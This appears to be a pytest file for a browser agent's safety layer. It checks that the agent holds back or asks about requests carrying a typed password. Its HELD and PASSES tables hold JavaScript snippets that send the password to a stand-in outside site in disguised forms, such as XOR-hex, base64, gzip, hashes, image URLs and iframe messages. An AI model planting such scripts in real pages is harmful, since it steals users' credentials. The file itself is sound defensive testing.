"""What cannot be read, once something private was typed: what is held back, and what is not."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import suppress
from dataclasses import replace

import pytest
import pytest_asyncio

from agent_e.errors import ActionDenied
from agent_e.safety.opaque_values import OpaqueValues
from agent_e.types import Outgoing
from tests.browsers import Chromium

from .shops import Shop, opened_shop

PASSWORD = "Tr0ub4dor&3"
RECEIVED = "9f8e7d6c5b4a3f2e"
MADE = "1a9Zq8Xw7Cv6Bn5M"


async def received(tokens: frozenset[str]) -> frozenset[str]:
    return tokens & {RECEIVED}


def sent(url: str = "https://b.example/", body: str = "") -> Outgoing:
    return Outgoing(method="POST", url=url, by="script", body=body)


@pytest.mark.parametrize(
    ("request_", "opaque"),
    [
        (sent(f"https://b.example/?d={MADE}"), True),
        (sent(f"https://b.example/{MADE}.png"), True),
        (sent(body=f'{{"a": "{MADE}"}}'), True),
        (replace(sent(), fragment=f"#{MADE}"), True),
        (replace(sent(), unread=True), True),
        (replace(sent(f"https://b.example/?d={MADE}"), redirected=True), False),
        (sent(f"https://b.example/chunk.{RECEIVED}.js"), False),
        (sent("https://b.example/?page=the-second-one-of-them&t=1732742863123"), False),
        (sent("https://b.example/?code=0000000000000000001"), False),
        (sent("https://b.example/known?d=KNOWN1234567890abc"), False),
    ],
)
async def test_a_token_is_opaque_if_the_page_made_it(request_: Outgoing, opaque: bool) -> None:
    values = OpaqueValues(received)
    values.learn("https://b.example/?cid=KNOWN1234567890abc")
    assert await values.is_carried(request_) is opaque


CODES = "[...V].map((c) => c.charCodeAt(0))"
BYTES = "new TextEncoder().encode(V)"
HELD = {
    "backwards": "send([...V].reverse().join(''))",
    "with separators": "send([...V].join('_'))",
    "with invisible characters": "send([...V].join('\\u200b'))",
    "in full-width letters": "send([...V].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0))"
    ".join(''))",
    "as numbers of its characters": f"send({CODES}.join(','))",
    "base64 of base64": "send(btoa(btoa(V)))",
    "combined with a key, in hexadecimal": f"send({CODES}"
    ".map((c) => (c ^ 90).toString(16).padStart(2, '0')).join(''))",
    "as one number to base 36": f"send({CODES}"
    ".reduce((n, c) => n * 256n + BigInt(c), 0n).toString(36))",
    "compressed": "new Response(new Blob([V]).stream().pipeThrough(new CompressionStream('gzip')))"
    ".blob().then((b) => fetch('OTHER/log', {method: 'POST', body: b}))",
    "as a hash": f"crypto.subtle.digest('SHA-256', {BYTES}).then((d) =>"
    "send([...new Uint8Array(d)].map((c) => c.toString(16).padStart(2, '0')).join('')))",
    "by a picture's address": f"new Image().src = 'OTHER/' + {CODES}"
    ".map((c) => (c ^ 90).toString(16).padStart(2, '0')).join('') + '.png'",
    "by a frame of the other site": "{ const f = document.createElement('iframe');"
    "f.src = 'OTHER/frame'; f.onload = () => f.contentWindow.postMessage(V, '*');"
    "document.body.append(f); }",
}
PASSES = {
    "each letter moved by one": f"send(String.fromCharCode(...{CODES}.map((c) => c + 1)))",
    "in pieces of three": "for (let at = 0; at < V.length; at += 3) send(V.slice(at, at + 3))",
}


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def shop(chromium: Chromium, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Shop]:
    async with opened_shop(chromium, tmp_path_factory.mktemp("shop")) as opened:
        yield opened


async def typed(shop: Shop, way: str, *, person: bool = True, allows: bool = False) -> None:
    """Type a password into a page that sends it on in some way, and wait until it has tried."""
    await shop.show(
        f"""<input type=password aria-label=Password><script>
        const send = (d) => fetch('OTHER/log?d=' + encodeURIComponent(d));
        document.querySelector('input').oninput = (e) => {{
          const V = e.target.value;
          if (V.length !== {len(PASSWORD)}) return;
          setTimeout(() => document.title = 'tried', 700);
          {way};
        }}</script>""",
        person=person,
    )
    shop.person.allows = allows
    # Long enough for all that comes together to be there.
    shop.person.meanwhile = (lambda: asyncio.sleep(0.3)) if allows else None
    with suppress(ActionDenied):
        await shop.do("enter_text", mmid=await shop.only("textbox"), text=PASSWORD)
    async with asyncio.timeout(20):
        while await shop.here.script("document.title") != "tried":  # noqa: ASYNC110
            await asyncio.sleep(0.05)


def logged(shop: Shop) -> list[str]:
    return [each.path for each in shop.arrived if each.path != "/frame"]


QUICK = ("with separators", "compressed", "as a hash")


@pytest.mark.browser
@pytest.mark.asyncio(loop_scope="session")
@pytest.mark.parametrize(
    "way", [w if w in QUICK else pytest.param(w, marks=pytest.mark.slow) for w in HELD]
)
async def test_a_password_in_disguise_is_asked_about(shop: Shop, way: str) -> None:
    await typed(shop, HELD[way])
    assert (logged(shop), len(shop.person.asked)) == ([], 1)


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.asyncio(loop_scope="session")
@pytest.mark.parametrize("way", PASSES)
async def test_the_documents_say_what_passes(shop: Shop, way: str) -> None:
    await typed(shop, PASSES[way])
    assert logged(shop) != [] and shop.person.asked == []


@pytest.mark.browser
@pytest.mark.asyncio(loop_scope="session")
async def test_without_a_person_it_is_held_back_and_the_act_goes_on(shop: Shop) -> None:
    await typed(shop, HELD["as a hash"], person=False)
    (judged,) = shop.here.events("request.judged")
    assert (logged(shop), judged["decision"], judged["carries"]) == ([], "deny", "opaque")
    assert shop.gate.unasked == ""


@pytest.mark.browser
@pytest.mark.asyncio(loop_scope="session")
async def test_what_the_server_sent_goes_where_the_page_sends_it(shop: Shop) -> None:
    token = "fetch('/token/9f8e7d6c5b4a3f2e').then((r) => r.url.split('/').pop()).then(send)"
    await typed(shop, token)
    assert (logged(shop), shop.person.asked) == (["/token/9f8e7d6c5b4a3f2e", "/log"], [])


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.asyncio(loop_scope="session")
async def test_requests_of_one_shape_are_one_question(shop: Shop) -> None:
    made = "send('1a9Zq8Xw7Cv6Bn5M'); send('2b8Yp7Wv6Bu5Am4L'); send('3c7Xo6Vu5At4Zl3K')"
    await typed(shop, made, allows=True)
    assert (logged(shop), len(shop.person.asked)) == (["/log"] * 3, 1)
